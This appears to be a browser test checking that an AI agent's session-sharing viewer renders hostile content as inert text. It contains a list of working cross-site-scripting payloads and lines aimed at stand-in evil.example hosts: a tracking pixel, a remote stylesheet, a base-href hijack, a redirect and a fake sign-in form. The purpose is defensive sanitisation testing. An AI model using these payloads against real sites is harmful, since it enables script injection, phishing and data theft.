// Content that wants to be more than content: it is shown, runs nothing, loads nothing, and breaks no layout.
import assert from "node:assert/strict"
import { host, isWell, reader, share, unfold } from "../lib.mjs"

/** Each would call alert or fetch from elsewhere if anything of it were taken for more than text. */
const HOSTILE = [
  `<script>alert(1)</script>`,
  `<img src=x onerror=alert(1)>`,
  `<svg onload=alert(1)><script>alert(1)</script></svg>`,
  `<svg><style><img src=x onerror=alert(1)></style></svg>`,
  `<iframe srcdoc="<script>parent.alert(1)</script>"></iframe>`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=alert(1)&gt;">`,
  `</code></pre><img src=x onerror=alert(1)>`,
  `<a href="javascript:alert(1)">click</a>`,
  `[click](javascript:alert(1))`,
  `[click](JaVaScRiPt:alert(1))`,
  `[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)`,
  `[click](vbscript:alert(1))`,
  `<javascript:alert(1)>`,
  `[ref]\n\n[ref]: javascript:alert(1) "title"`,
  `![x](https://evil.example/pixel.png)`,
  `![x](javascript:alert(1))`,
  `![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEpIi8+)`,
  `![x" onerror="alert(1)](data:image/png;base64,AAAA)`,
  `[x](https://example.org/"onmouseover="alert(1))`,
  "```\" onload=\"alert(1)\n</code><script>alert(1)</script>\n```",
  `<style>body{display:none}</style><link rel=stylesheet href=//evil.example/x.css>`,
  `<base href="https://evil.example/"><meta http-equiv=refresh content="0;url=https://evil.example">`,
  `<form action="https://evil.example"><input name=q><button>Sign in</button></form>`,
  `{{constructor.constructor('alert(1)')()}} \${alert(1)}`,
  `"><img src=x onerror=alert(1)>' onmouseover='alert(1)`,
  `\u202Etxt.exe\u202C \u0000 \u001b[31mred\u001b[0m`,
]
const LONG = "x".repeat(5_000)
const WIDE = `${HOSTILE[1]}${LONG}`

export default async function () {
  const served = await host()
  const name = HOSTILE.join(" ")
  const message = { id: "msg_1", sessionID: "ses_h", role: "assistant", modelID: name, providerID: name, agent: name, time: { created: 1, completed: 2 } }
  let made = 0
  const part = (type, fields) => ({ type: "part", data: { id: `prt_${String(++made).padStart(4, "0")}`, sessionID: "ses_h", messageID: "msg_1", type, ...fields } })
  const tool = (tool, input, rest) => part("tool", { tool, state: { status: "completed", input, output: name, title: name, time: { start: 1, end: 2 }, metadata: {}, ...rest } })
  const kinds = ["bash", "read", "write", "edit", "grep", "webfetch", "task", "todowrite", "constructor", "__proto__", "toString", name]
  const inputs = { command: name, description: WIDE, filePath: WIDE, content: name, oldString: name, newString: WIDE, pattern: name, url: "javascript:alert(1)", prompt: name, todos: [{ content: name, status: "__proto__" }, null, 7] }
  const items = [
    { type: "session", data: { id: "ses_h", title: `${name} ${LONG}`, directory: name, agent: name, time: { created: 1e300, updated: "soon" }, cost: "free", tokens: [] } },
    { type: "model", data: [{ id: name.slice(0, 60), providerID: "p", name: WIDE }] },
    { type: "message", data: message },
    { type: "message", data: { id: "msg_2", role: { toString: 1 }, error: { name, data: { message: WIDE } }, time: { created: -1e18 }, parts: 3 } },
    { type: "message", data: { id: "msg_3", role: "user", time: "then" } },
    ...HOSTILE.map(text => part("text", { text })),
    part("text", { text: WIDE }),
    part("text", { text: { not: "text" } }),
    part("reasoning", { text: name, time: { start: "a", end: {} } }),
    ...kinds.map(kind => tool(kind, inputs)),
    tool("edit", inputs, { metadata: { diff: `--- a\n+++ b\n@@ -1 +1 @@\n-${name}\n+${WIDE}` } }),
    tool("edit", null, { metadata: 3, time: null }),
    part("tool", { tool: 7, state: "done" }),
    part("tool", { tool: "bash", state: { status: name, input: [], error: WIDE } }),
    part("file", { mime: "image/svg+xml", filename: WIDE, url: "data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEpIi8+" }),
    part("file", { mime: "text/html", filename: name, url: "javascript:alert(1)" }),
    part("file", { mime: "image/png", filename: name, url: "https://evil.example/x.png" }),
    part("file", { mime: "text/html", filename: "page.html", url: "data:text/html,<script>alert(1)</script>" }),
    part("patch", { files: [name, 3, null, WIDE] }),
    part("step-finish", { cost: "1", tokens: null }),
    part("subtask", { description: name, prompt: name, agent: {} }),
    part("retry", { attempt: {}, error: { data: { message: name } } }),
    part("compaction", {}), part("agent", { name: WIDE }), part(name, { deep: { er: [name] } }), part(undefined, {}),
    { type: "part", data: { id: "prt_orphan", messageID: "msg_nowhere", type: "text", text: "an orphan" } },
    { type: "session_diff", data: [{ file: WIDE, patch: `@@ @@\n-${name}\n+${name}` }, { file: name, before: name, after: `${name}!` }, null, 3, { file: "a", patch: "no patch\n<b>" }, {}] },
    { type: "custom<img src=x onerror=alert(1)>", data: { id: "c", html: name } },
  ]
  const { url } = share(served, "ses_h", items)

  for (const options of [{ viewport: { width: 1280, height: 900 } }, { viewport: { width: 390, height: 844 } }]) {
    const page = await reader(url, options)
    let seen = false
    for (let tab = 0; tab < 2; tab += 1) {
      // Through all of it, and with all of it open.
      for (let last = -1; ; ) {
        await unfold(page)
        seen ||= (await page.locator(".row", { hasText: "<script>alert(1)</script>" }).count()) > 0
        const at = await page.evaluate(() => (scrollBy(0, 600), new Promise(done => requestAnimationFrame(() => requestAnimationFrame(() => done(scrollY))))))
        if (at === last) break
        last = at
        const found = await page.evaluate(() => {
          const app = document.getElementById("app")
          const all = [...app.querySelectorAll("*")]
          return {
            elements: all.map(one => one.localName).filter(one => /^(script|iframe|object|embed|style|link|base|meta|math|foreignobject|animate|use)$/.test(one)),
            handlers: all.flatMap(one => [...one.attributes]).filter(({ name }) => name.startsWith("on")).map(({ name }) => name),
            links: all.flatMap(one => ["href", "src", "action", "formaction", "xlink:href"].map(name => one.getAttribute(name))).filter(to => to && !/^(https?:|mailto:|#|data:image\/png;)/.test(to)),
            wide: document.documentElement.scrollWidth > innerWidth ? all.filter(one => one.getBoundingClientRect().right > innerWidth + 1 && !inScroller(one)).map(one => one.outerHTML.slice(0, 120)).slice(0, 4) : [],
            beyond: all.filter(one => one.closest(".row, .hero, .bar, .file-diff") && one.getBoundingClientRect().right > innerWidth + 1 && !inScroller(one)).map(one => one.className).slice(0, 5),
          }
          function inScroller(one) {
            for (let up = one; up; up = up.parentElement) if (/auto|scroll|hidden|clip/.test(getComputedStyle(up).overflowX)) return true
            return false
          }
        })
        assert.deepEqual(found, { elements: [], handlers: [], links: [], wide: [], beyond: [] })
      }
      await page.getByRole("tab", { name: /Changes/ }).click()
      await page.evaluate(() => scrollTo(0, 0))
    }
    // It is there, as text.
    assert.ok(seen, "no row showed the script")
    assert.ok((await page.getByRole("heading", { level: 1 }).textContent()).startsWith("<script>alert(1)</script>"))
    isWell(page)
    await page.context().close()
  }
}
